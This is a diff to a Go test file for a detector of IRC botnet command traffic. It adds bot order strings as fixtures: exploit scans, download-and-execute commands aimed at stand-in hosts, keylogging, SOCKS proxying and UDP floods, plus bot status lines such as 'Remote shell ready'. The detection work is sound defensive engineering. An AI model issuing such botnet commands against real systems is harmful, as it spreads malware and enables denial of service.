@@ -23,16 +23,16 @@ func TestOrders(t *testing.T) {
 		"advscan":                           "advscan",
 		"!AdvScan lsass 100 5 0":            "advscan",
 		".advscan xyz 100 5 0":              "advscan",
-		"!asc":                              "asc",
+		"!asc lsass":                        "asc",
 		"asc netapi 100 5 0 -r":             "asc",
 		",ntscan":                           "ntscan",
 		"$ntscan 100":                       "ntscan",
 		"~sdscan":                           "sdscan",
 		"@lsass_445 100":                    "lsass_445",
-		"-netapi":                           "netapi",
+		"-netapi 100":                       "netapi",
 		"%dcom2 50 5":                       "dcom2",
 		"&ms06_040 100":                     "ms06_040",
-		"*asn445":                           "asn445",
+		"*asn445 100":                       "asn445",
 		"lsass 100 5 0 -r":                  "lsass",
 		".scan 192.168.x.x 445 10":          "scan",
 		".scan netapi":                      "scan",
@@ -59,12 +59,16 @@ func TestOrders(t *testing.T) {
 		"!dl x.example/b.exe":                            "dl",
 		"!wget 1 http://x.example/b.exe":                 "wget",
 		".update http://x.example/c.exe 1234":            "update",
-		".visit http://x.example/":                       "visit",
-		".open http://x.example/":                        "open",
+		".visit http://x.example/ 5":                     "visit",
+		".download http://x.example/a c:\\a.exe 1":       "download",
+		".open http://x.example/d/a.scr":                 "open",
 		".open c:\\windows\\x.exe":                       "open",
 		".execute 1 %temp%\\a.exe":                       "execute",
 		"!spread on":                                     "spread",
-		"!!download http://x.example/a":                  "download",
+		"!!download http://x.example/a 1":                "download",
+		".keylog on":                                     "keylog",
+		".socks4 1080":                                   "socks4",
+		"udpflood 192.0.2.1 53 60":                       "udpflood",
 		"  .advscan 445":                                 "advscan",
 		"\x02.advscan\x02 445":                           "advscan",
 		"\x0304,12.advscan 445":                          "advscan",
@@ -72,8 +76,8 @@ func TestOrders(t *testing.T) {
 		"!* SH wget http://x.example/a":                  "sh",
 		"!*bot* TSUNAMI 192.0.2.1 60":                    "tsunami",
 		".rsl.reboot":                                    "rsl.reboot", ".redirect.socks 1080": "redirect.socks", ".harvest.emails": "harvest.emails",
-		"!bot @udpflood 192.0.2.1 53 60":                     "udpflood",
-		".login x|.advscan 445 | !update http://x.example/a": "advscan update",
+		"!bot @udpflood 192.0.2.1 53 60":                         "udpflood",
+		".login x|.advscan 445 | !update http://x.example/a.exe": "advscan update",
 	} {
 		if got := strings.Join(ordersIn(t, text), " "); got != want {
 			t.Errorf("%q: %q, want %q", text, got, want)
@@ -93,6 +97,11 @@ func TestPeopleGiveNoOrders(t *testing.T) {
 		"welcome | rules: http://x.example/ | scan 445 445 445 | download http://x.example/", ":-) update", "* update http://x.example/", "- open http://x.example/",
 		"!* hello", "!bot @help", "!bot update", "!seen sh 1", "`update` http://x.example/", ".scan.foo", ".ddos.foo", ".http.get http://x.example/", "!ms 5", "!wins 5", "!http.execute: x",
 		"update 1.2.3 is out", "!update 1.2.3", "!dl", "!dl bob's", ".visit us", "@anna open http://x.example/", "~ ~ ~", "&amp; open", "100% update http://x.example/",
+		"!ping 192.0.2.1 4", ".ping x.example 5", "!tcp x.example 443", "!http x.example 80", "!portscan x.example", "!scan 192.0.2.1 22", "!scan 5 10",
+		"!download https://x.example/watch", "!dl http://x.example/song", "!update https://x.example/wiki", "!open http://x.example/", "!open http://firma.pl",
+		".visit http://x.example", "!wget http://x.example/a.html", "!wget 3 http://x.example/a.html", "!run 5 http://x.example/", "!open http://x.example/ http://y.example/",
+		"!webdav", "!netbios", "!upnp", "!pnp", "!symantec", "&veritas", "!mssql", "mssql db.example.org 1433", "webdav 192.0.2.1 443", "!lsass", "!dcom", "!sub7", "!asn1",
+		"!ms08-067", "!ms08_067", "!asc", "!keylog", "!socks4", "!synflood", "http.update", "ftp.download", "bot.open", "scan.on", "scan.start", "!spread 5",
 	} {
 		if got := ordersIn(t, text); got != nil {
 			t.Errorf("%q: %q", text, got)
@@ -144,7 +153,7 @@ func TestOrdersAreDistinctAndBounded(t *testing.T) {
 		t.Errorf("%q, want %q", got, want)
 	}
 	long := newCaller(t, false)
-	long.send(true, []byte(":b!b@h PRIVMSG #x :.ms"+strings.Repeat("1", 300)+"\r\n"))
+	long.send(true, []byte(":b!b@h PRIVMSG #x :.ms"+strings.Repeat("1", 300)+" 1\r\n"))
 	if got := long.session.Orders(); len(got) != 1 || len(got[0]) != orderSize {
 		t.Errorf("%q", got)
 	}
@@ -159,7 +168,10 @@ func TestReports(t *testing.T) {
 	for _, text := range []string{
 		"[SCAN]: Random Port Scan started on 10.0.x.x:445", "[MAIN]: Status: Ready.", "[lsass]: exploiting 192.0.2.1", "[ASN1SMB]: Exploiting IP: 192.0.2.1.",
 		"[DOWNLOAD]: Downloading URL: http://x.example/b.exe to: b.exe.", "[DOWNLOAD]: Downloaded 28.6 KB to b.exe @ 28.6 KB/sec.", "[DOWNLOAD]: Opened: b.exe.",
-		"[FTP]: File transfer complete to IP: 192.0.2.1 (c:\\x.exe).", "[DDoS]: Flooding: (192.0.2.1:80) for 60 seconds.", ".::[SCAN]::. Scanning", "(TFTP): File transfer started",
+		"[FTP]: File transfer complete to IP: 192.0.2.1 (c:\\x.exe).", "[DDoS]: Flooding: (192.0.2.1:80) for 60 seconds.",
+		"[ICMP]: Flooding: (192.0.2.1) for 60 seconds.", "[UDP]: Sending 500 packets to: 192.0.2.1. Packet size: 512", "[SYN]: Flooding: (192.0.2.1:80) for 60 seconds.",
+		"[HTTPD]: Server listening on IP: 192.0.2.1:81, Directory: \\.", "[UPDATE]: Downloading update from: http://x.example/c.exe.", "[MAIN]: Bot ID: rx-a.", "[MAIN]: User: x logged in.",
+		"[CMD]: Remote shell ready.", "[EXEC]: Commands: dir", "[PROC]: Listing processes:", ".::[SCAN]::. Scanning", "(TFTP): File transfer started",
 		"\x02[\x0304SCAN\x03]\x02: Exploiting", "[KEYLOG]: x",
 	} {
 		if !reported(text) {
@@ -169,6 +181,9 @@ func TestReports(t *testing.T) {
 	for _, text := range []string{
 		"", "[", "[]", "[SCAN]", "[SCAN]:", "[SCAN] chapter 5 is out", "[scan]: chapter 5", "[main]: a push", "[UPDATE]: server is back", "[UPDATE]: new version at http://x.example/",
 		"[DOWNLOAD]: http://x.example/a.exe", "[FTP]: file is there", "[anna]: hello", "SCAN: x", "see [SCAN]: x", "[SCAN): x", "<anna>: [SCAN]: x", "[ANNA]: hello", "[HTTP]: hello", "[NET]: failed again",
+		"[MAIN]: deployed", "[MAIN]: status is green", "[ICMP]: 192.0.2.1 is down", "[UDP]: port 53 of 192.0.2.1", "[CMD]: ls", "[EXEC]: nightly job", "[PROC]: low memory",
+		"[PING]: server failed 192.0.2.1", "[HTTP]: error on http://x.example/ 500", "[UPDATE]: failed http://x.example/", "(UDP): x", "[SYN]: flood in 192.0.2.1",
+		"[REDIRECT]: http://x.example/ to http://y.example/",
 	} {
 		if reported(text) {
 			t.Errorf("%q is no report", text)
